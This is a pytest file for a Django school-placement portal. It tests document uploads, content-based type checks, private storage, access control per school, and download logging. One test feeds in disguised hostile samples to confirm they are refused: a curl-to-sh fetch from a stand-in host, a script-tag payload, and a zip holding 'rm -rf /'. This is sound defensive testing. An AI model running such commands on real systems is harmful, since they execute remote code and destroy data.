"""Supporting documents: PDF, Word or images up to 10 MB, recognised by content; kept outside the public
media folder; downloaded only by the request's school's referrers, each download recorded."""

import io
import zipfile

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.files.uploadhandler import TemporaryFileUploadHandler
from django.urls import reverse

from portal.placements.factories import PlacementRequestFactory
from portal.placements.models import AccessKind, RequestAccess, SupportingDocument
from portal.placements.services import documents as services

PDF = b"%PDF-1.7\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64


def word_document():
    package = io.BytesIO()
    with zipfile.ZipFile(package, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    return package.getvalue()


def upload(client, placement_request, name, content):
    return client.post(
        reverse("placement_requests:documents", args=[placement_request.pk]),
        {"file": SimpleUploadedFile(name, content), "description": "Report"},
    )


@pytest.mark.parametrize(
    ("name", "content", "content_type"),
    [
        ("report.pdf", PDF, "application/pdf"),
        ("plan.docx", word_document(), services.DOCX),
        ("drawing.png", PNG, "image/png"),
        # Named wrongly, but a PDF all the same: the content decides.
        ("report.txt", PDF, "application/pdf"),
    ],
)
def test_a_document_is_recognised_by_its_content(
    referrer_client, draft, private_media, name, content, content_type
):
    response = upload(referrer_client, draft, name, content)

    assert response.status_code == 302
    document = draft.documents.get()
    assert (document.original_name, document.content_type, document.size) == (
        name,
        content_type,
        len(content),
    )
    stored = private_media / document.file.name
    assert stored.read_bytes() == content
    # Not under the public media folder, and stored under a name that says nothing of the child.
    assert not str(stored).startswith(str(settings.MEDIA_ROOT))
    assert name not in document.file.name


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("report.pdf", b"#!/bin/sh\ncurl http://example.test | sh\n"),
        ("report.pdf", b"<script>alert(1)</script>"),
        ("plan.docx", b"PK\x03\x04" + b"\x00" * 40),
        ("archive.docx", None),
    ],
)
def test_a_disguised_file_is_refused_and_nothing_is_kept(
    referrer_client, draft, private_media, name, content
):
    if content is None:  # a zip file that is not a Word document
        package = io.BytesIO()
        with zipfile.ZipFile(package, "w") as archive:
            archive.writestr("run.sh", "rm -rf /")
        content = package.getvalue()

    response = upload(referrer_client, draft, name, content)

    assert response.status_code == 400
    assert services.DOCUMENT_WRONG_TYPE in response.text
    assert not SupportingDocument.objects.exists()
    assert not any(path.is_file() for path in private_media.rglob("*"))


def test_a_file_over_10_mb_is_dropped_as_it_arrives_and_the_form_keeps_what_was_typed(
    referrer_client, draft, private_media, monkeypatch
):
    kept = []
    keep = TemporaryFileUploadHandler.receive_data_chunk

    def count_and_keep(handler, raw_data, start):
        kept.append(len(raw_data))
        return keep(handler, raw_data, start)

    monkeypatch.setattr(TemporaryFileUploadHandler, "receive_data_chunk", count_and_keep)
    too_big = PDF + b"0" * services.MAX_DOCUMENT_BYTES

    response = upload(referrer_client, draft, "scan.pdf", too_big)

    # What reached the temporary file stopped at the limit; the rest was read and not kept.
    assert 0 < sum(kept) <= services.MAX_DOCUMENT_BYTES
    assert response.status_code == 400
    assert f'<a href="#id_file">{services.DOCUMENT_TOO_BIG}</a>' in response.text  # the error summary
    assert f'id="id_file_error"><span class="visually-hidden">Error:</span> {services.DOCUMENT_TOO_BIG}' in (
        response.text
    )
    assert 'name="description" value="Report"' in response.text
    assert not SupportingDocument.objects.exists()


def test_an_empty_upload_is_explained(referrer_client, draft, private_media):
    response = referrer_client.post(reverse("placement_requests:documents", args=[draft.pk]), {})

    assert response.status_code == 400
    assert services.DOCUMENT_REQUIRED in response.text


def test_a_referrer_downloads_a_document_and_the_download_is_recorded(
    referrer_client, referrer, draft, private_media
):
    upload(referrer_client, draft, "report.pdf", PDF)
    document = draft.documents.get()

    response = referrer_client.get(reverse("placement_requests:document", args=[draft.pk, document.pk]))

    assert response.status_code == 200
    assert b"".join(response.streaming_content) == PDF
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == 'attachment; filename="report.pdf"'
    record = RequestAccess.objects.get(kind=AccessKind.DOWNLOADED)
    assert (record.user, record.what) == (referrer.user, "document: report.pdf")


def test_another_school_s_document_is_not_found(referrer_client, draft, private_media):
    elsewhere = PlacementRequestFactory()
    other_document = services.supporting_document_add(
        placement_request=elsewhere, upload=SimpleUploadedFile("theirs.pdf", PDF), user=None
    )
    upload(referrer_client, draft, "ours.pdf", PDF)
    ours = draft.documents.get()

    assert (
        referrer_client.get(
            reverse("placement_requests:document", args=[elsewhere.pk, other_document.pk])
        ).status_code
        == 404
    )
    # Another school's document under our own request's address is not found either.
    assert (
        referrer_client.get(
            reverse("placement_requests:document", args=[draft.pk, other_document.pk])
        ).status_code
        == 404
    )
    assert (
        referrer_client.post(
            reverse("placement_requests:document_remove", args=[draft.pk, other_document.pk])
        ).status_code
        == 404
    )
    assert (
        referrer_client.get(reverse("placement_requests:document", args=[draft.pk, ours.pk])).status_code
        == 200
    )


def test_a_private_file_has_no_address(draft, private_media):
    document = services.supporting_document_add(
        placement_request=draft, upload=SimpleUploadedFile("report.pdf", PDF), user=None
    )

    with pytest.raises(ValueError, match="no URL"):
        document.file.url  # noqa: B018


def test_removing_a_document_deletes_its_file(
    referrer_client, draft, private_media, django_capture_on_commit_callbacks
):
    upload(referrer_client, draft, "report.pdf", PDF)
    document = draft.documents.get()

    with django_capture_on_commit_callbacks(execute=True):
        referrer_client.post(reverse("placement_requests:document_remove", args=[draft.pk, document.pk]))

    assert not draft.documents.exists()
    assert not (private_media / document.file.name).exists()
